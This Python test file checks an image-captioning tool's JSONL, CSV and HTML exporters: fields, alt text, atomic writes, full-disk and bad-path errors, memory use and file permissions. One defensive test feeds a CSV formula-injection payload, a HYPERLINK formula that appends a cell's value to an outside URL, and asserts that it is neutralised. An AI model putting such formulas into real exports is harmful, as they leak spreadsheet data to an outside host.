"""The output files of a batch: written as a whole, in every format, safe to open."""

import csv
import json
import os
import stat
import subprocess
import sys
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from image_describer.captioner.description import (
    Alternative,
    Description,
    Seconds,
    Word,
)
from image_describer.errors import ImageDescriberError
from image_describer.library import exporters
from image_describer.library.exporters import csv as csv_exporter
from image_describer.library.record import Record
from image_describer.reading.text import Code, PictureText, TextLine

DOG = Description(
    caption="a brown dog runs through the grass",
    confidence=0.8234,
    alternatives=(Alternative("a dog", 0.4),),
    words=(Word("dog", 0.9, (0.1, 0.2, 0.3, 0.4)),),
    notes=("The picture is very dark.", "The picture is blurred."),
    seconds=Seconds(0.01, 0.02, 0.003),
    width=640,
    height=480,
)
BROKEN = "The file is empty."


def described(file: str, caption: str = DOG.caption) -> Record:
    """A described picture."""
    return Record(file, "ab" * 32, Description(caption, 0.8, file=file, width=640, height=480))


def a_batch(folder: Path) -> list[Record]:
    """A described picture, one with an error, and one with an odd name."""
    return [
        Record(f"{folder}/dog.jpg", "ab" * 32, DOG),
        Record(f"{folder}/empty.jpg", "", error=BROKEN),
        described(os.fsdecode(bytes(folder) + b'/caf\xe9, "best".jpg')),
    ]


def test_jsonl_has_every_field(tmp_path):
    target = tmp_path / "out.jsonl"
    exporters.write(target, a_batch(tmp_path))
    lines = [json.loads(line) for line in target.read_text("utf-8").splitlines()]
    assert [line["file"] for line in lines] == [
        f"{tmp_path}/dog.jpg",
        f"{tmp_path}/empty.jpg",
        f'{tmp_path}/caf\\xe9, "best".jpg',
    ]
    assert lines[0]["caption"] == "a brown dog runs through the grass"
    assert lines[0]["sentence"].startswith("The picture is very dark. The picture is blurred. Prob")
    assert lines[0]["confidence"] == 0.823
    assert lines[0]["words"] == [{"word": "dog", "region": [0.1, 0.2, 0.3, 0.4]}]
    assert lines[0]["key"] == "ab" * 32
    assert lines[0]["error"] is None
    assert lines[1]["error"] == BROKEN
    assert lines[1]["key"] is None
    assert lines[1]["caption"] is None
    assert list(lines[1]) == list(lines[0]), "every line has the same fields"


@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
def test_the_authors_alt_text_is_in_every_format(tmp_path, suffix):
    author = "Rex & Ann at the lake"
    target = tmp_path / f"out{suffix}"
    exporters.write(target, [Record("/dog.jpg", "ab" * 32, replace(DOG, alt_text=author))])
    text = target.read_text("utf-8-sig")
    if suffix == ".jsonl":
        assert json.loads(text)["alt_text"] == author
    elif suffix == ".csv":
        assert next(csv.DictReader(text.splitlines()))["alt_text"] == author
    else:
        assert 'alt="Rex &amp; Ann at the lake"' in text
        assert DOG.caption in text


@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
def test_the_text_in_pictures_is_added_where_asked(tmp_path, suffix):
    line = TextLine("Fish & chips", (0.1, 0.1, 0.9, 0.2), 0.9)
    code = Code("EAN-13", "4006381333931", (0.1, 0.5, 0.9, 0.6))
    record = Record("/sign.jpg", "ab" * 32, replace(DOG, text=PictureText((line,) * 9, (code,))))
    target = tmp_path / f"out{suffix}"
    exporters.write(target, [record])
    assert (target.read_text("utf-8-sig").count("Fish") > 0) == (suffix == ".jsonl")
    exporters.write(target, [record, Record("/broken.jpg", "", error=BROKEN)], text=True)
    text = target.read_text("utf-8-sig")
    if suffix == ".jsonl":
        found = json.loads(text.splitlines()[0])
        assert found["text"].count("Fish & chips") == 9
        assert found["codes"][0]["content"] == code.content
    elif suffix == ".csv":
        rows = list(csv.DictReader(text.splitlines(keepends=True)))
        assert rows[0]["text"].splitlines() == ["Fish & chips"] * 9
        assert rows[0]["codes"] == code.content
        assert rows[1]["text"] == ""
    else:
        assert "<summary>Text in the picture: 27 words</summary>" in text
        assert text.count("Fish &amp; chips") == 9


def test_a_page_is_its_text_in_a_gallery(tmp_path):
    line = TextLine("Dear Ann", (0.1, 0.1, 0.9, 0.2), 0.9)
    page = replace(DOG, notes=(), text=PictureText((line,), is_page=True))
    exporters.write(tmp_path / "out.html", [Record("/letter.jpg", "ab" * 32, page)])
    text = (tmp_path / "out.html").read_text("utf-8")
    assert 'alt="It says: Dear Ann."' in text
    assert "percent" not in text
    assert DOG.caption not in text


def test_csv_round_trip(tmp_path):
    target = tmp_path / "out.csv"
    exporters.write(target, a_batch(tmp_path))
    content = target.read_bytes()
    assert content.startswith(b"\xef\xbb\xbffile,caption,"), "Excel recognizes UTF-8 by the mark"
    assert content.count(b"\r\n") == content.count(b"\n") == 4
    with target.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0]) == csv_exporter.COLUMNS
    assert rows[0]["notes"] == "The picture is very dark. The picture is blurred."
    assert (rows[0]["width"], rows[0]["height"], rows[0]["confidence"]) == ("640", "480", "0.823")
    assert rows[1]["error"] == BROKEN
    assert rows[1]["caption"] == rows[1]["confidence"] == ""
    assert rows[2]["file"] == f'{tmp_path}/caf\\xe9, "best".jpg'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_no_csv_cell_is_a_formula(tmp_path, start):
    target = tmp_path / "out.csv"
    evil = f'{start}HYPERLINK("http://example.org?"&A1)'
    caption = described(evil, evil)
    exporters.write(target, [caption, Record(evil, "", error=evil)])
    with target.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file):
            assert not [cell for cell in row if cell.startswith(csv_exporter.FORMULA_STARTS)]


@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
def test_the_old_file_stays_if_writing_fails(tmp_path, suffix):
    def interrupted() -> Iterator[Record]:
        yield described("/a.jpg")
        raise KeyboardInterrupt

    target = tmp_path / f"out{suffix}"
    exporters.write(target, [described("/before.jpg")])
    before = target.read_bytes()
    with pytest.raises(KeyboardInterrupt):
        exporters.write(target, interrupted())
    assert target.read_bytes() == before
    assert os.listdir(tmp_path) == [target.name]


@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
def test_a_full_disk_is_reported(tmp_path, suffix):
    code = (
        "import resource, signal, sys\n"
        "from image_describer.library import exporters\n"
        "from tests.library.exporters.test_exporters import described\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))\n"
        "try: exporters.write(sys.argv[1], [described(f'/{i}.jpg') for i in range(1_000)])\n"
        "except exporters.OutputError as error: print(error)"
    )
    target = tmp_path / f"out{suffix}"
    done = subprocess.run(
        [sys.executable, "-c", code, str(target)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=Path(__file__).parents[3],
    )
    assert "can't be written: File too large" in done.stdout, done.stderr
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("suffix", exporters.SUFFIXES)
def test_memory_does_not_grow_with_the_number_of_records(tmp_path, suffix):
    def peak(pictures: int) -> int:
        target = tmp_path / f"{pictures}{suffix}"
        tracemalloc.start()
        exporters.write(target, (described(f"{tmp_path}/{i}.jpg") for i in range(pictures)))
        found = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return found

    assert peak(2_000) < peak(200) + 200_000


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("out.txt", "has to end in .jsonl, .csv or .html"),
        ("out", "has to end in .jsonl, .csv or .html"),
        ("", "has to end in"),
        ("missing/out.csv", "there is no folder"),
        ("folder.csv", "is a folder"),
        ("pipe.csv", "a device or a pipe"),
        ("file.csv/out.csv", "can't be written|there is no folder"),
        ("x" * 300 + ".csv", "File name too long"),
        ("nul\0.csv", "not a valid name"),
    ],
)
def test_an_unusable_path_is_refused_before_any_work(tmp_path, name, message):
    (tmp_path / "folder.csv").mkdir()
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "file.csv").write_text("")
    path = f"{tmp_path}/{name}" if name else ""
    with pytest.raises(ImageDescriberError, match=message):
        exporters.check(path)
    with pytest.raises(ImageDescriberError, match=message):
        exporters.write(path, [])


def test_a_folder_without_permission_is_refused_before_any_work():
    # Not even root can create files here.
    with pytest.raises(ImageDescriberError, match=r"can't be written: .*[^.]\. Make room"):
        exporters.check("/proc/out.csv")


def test_check_leaves_no_file(tmp_path):
    for suffix in (".csv", ".JSONL", ".Html"):
        exporters.check(tmp_path / f"{'n' * 240}{suffix}")
    assert os.listdir(tmp_path) == []


def test_permissions_and_links_are_kept(tmp_path):
    target, link = tmp_path / "real.csv", tmp_path / "link.csv"
    before = os.umask(0o027)
    try:
        exporters.write(target, [])
    finally:
        os.umask(before)
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    target.chmod(0o604)
    link.symlink_to(target)
    exporters.write(link, [described("/a.jpg")])
    assert link.is_symlink()
    assert b"/a.jpg" in target.read_bytes()
    assert stat.S_IMODE(target.stat().st_mode) == 0o604
